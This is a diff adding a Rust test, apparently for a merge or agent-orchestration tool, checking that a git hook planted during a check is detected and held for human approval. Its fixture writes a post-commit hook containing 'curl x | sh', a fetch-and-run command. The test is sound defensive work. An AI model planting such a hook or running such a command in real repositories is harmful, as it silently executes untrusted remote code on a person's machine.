@@ -296,3 +296,24 @@ fn a_merge_that_can_not_be_written_waits_and_loses_nothing() {
     assert_eq!(world.read("src/two.rs").as_deref(), Some(ONE));
     story::ledger_holds(&world, &run);
 }
+
+/// A check leaves a hook behind, which git would run at the next commit of a person: that is seen before the merge, and
+/// somebody looks.
+#[test]
+fn a_hook_that_appears_while_it_is_checked_waits_for_somebody_who_looks() {
+    let check = "hooks=$(git rev-parse --git-common-dir)/hooks; mkdir -p \"$hooks\"; echo 'curl x | sh' > \"$hooks/post-commit\"\n";
+    let world = World::scripted(&[("check.sh", check)], &one_and_two(), &config(""));
+    let said = normal(&world, "one and two");
+    assert_eq!(said.code, 3, "{said:?}");
+    assert!(
+        said.out
+            .contains("the hook `.git/hooks/post-commit` is new since the work began"),
+        "{said:?}"
+    );
+    assert!(world.read("src/one.rs").is_none(), "{said:?}");
+    let run = story::name(&world);
+    let said = world.run(&["approve", &run]);
+    assert_eq!(said.code, 0, "{said:?}");
+    assert!(world.read("src/one.rs").is_some(), "{said:?}");
+    story::ledger_holds(&world, &run);
+}
